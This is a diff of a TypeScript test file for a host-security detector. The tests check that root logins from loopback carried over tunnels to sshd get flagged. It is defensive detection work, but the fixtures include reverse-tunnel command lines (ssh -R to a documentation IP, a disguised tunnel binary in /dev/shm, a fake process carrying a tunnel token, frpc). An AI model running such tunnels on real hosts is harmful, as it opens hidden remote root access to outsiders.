@@ -31,18 +31,29 @@ test("the xz backdoor: liblzma 5.6.0 or 5.6.1 mapped into sshd", async (t) => {
 });
 
 test("a root session from loopback carried by a tunnel to sshd; a person's own ssh root@localhost is not one", async (t) => {
-  const login = { username: "root", host: "127.0.0.1", tty: "pts/1", type: "7", time: "1731900000" };
+  const login = { user: "root", host: "127.0.0.1", tty: "pts/1", type: "user", time: "1731900000", pid: "4242" };
   const tunnel = host({
-    last: [login],
+    logged_in_users: [login],
     processes: [proc(900, "asterisk-mon", "/usr/lib/asterisk/asterisk-mon", "/usr/lib/asterisk/asterisk-mon tunnel --no-autoupdate run --token eyJh", { uid: "1001" })],
     process_open_sockets: [sock(900, "127.0.0.1", 22, { local_address: "127.0.0.1", local_port: "49318" })],
   });
   const hits = findings("remote-root-login", tunnel);
   t.equal(hits.length, 1);
-  t.match(hits[0]?.summary ?? "", /asterisk-mon .*not an ssh client/);
-  const own = host({ last: [login], processes: [proc(901, "ssh", "/usr/bin/ssh", "ssh root@localhost", { uid: "1000" })], process_open_sockets: [sock(901, "127.0.0.1", 22, { local_address: "127.0.0.1" })] });
-  t.same(findings("remote-root-login", own), []);
-  t.same(findings("remote-root-login", host({ last: [login] })), [], "a loopback login with no tunnel in sight");
+  t.match(hits[0]?.summary ?? "", /asterisk-mon .*not a plain ssh client/);
+  const client = (path: string, cmdline: string) => host({ logged_in_users: [login], processes: [proc(901, "ssh", path, cmdline, { uid: "1000" })], process_open_sockets: [sock(901, "127.0.0.1", 22, { local_address: "127.0.0.1" })] });
+  t.same(findings("remote-root-login", client("/usr/bin/ssh", "ssh root@localhost")), []);
+  t.equal(findings("remote-root-login", client("/usr/bin/ssh", "ssh -N -R 2222:127.0.0.1:22 tun@203.0.113.7")).length, 1, "the classic reverse tunnel");
+  t.equal(findings("remote-root-login", client("/dev/shm/ssh", "ssh client 203.0.113.7:443 R:2222:127.0.0.1:22")).length, 1, "a tunnel named ssh elsewhere");
+  t.same(findings("remote-root-login", host({ logged_in_users: [login] })), [], "a loopback login with no tunnel in sight");
+  const past = host({ last: [{ username: "root", host: "127.0.0.1", tty: "pts/1", type: "7", time: "1731900000" }], processes: [proc(902, "blackbox_exporter", "/usr/bin/blackbox_exporter", "blackbox_exporter")], process_open_sockets: [sock(902, "127.0.0.1", 22, { local_address: "127.0.0.1" })] });
+  t.same(findings("remote-root-login", past), [], "a past loopback login and a probe of sshd today");
+  const port2222 = host({
+    logged_in_users: [login],
+    processes: [proc(20, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D"), proc(903, "frpc", "/opt/x/frpc", "frpc -c frpc.ini")],
+    listening_ports: [{ pid: "20", port: "2222", address: "0.0.0.0", protocol: "6" }],
+    process_open_sockets: [sock(903, "127.0.0.1", 2222, { local_address: "127.0.0.1" })],
+  });
+  t.equal(findings("remote-root-login", port2222).length, 1, "sshd on another port, read from its listener");
 });
 
 test("a program an npm preinstall started that outlives its install", async (t) => {
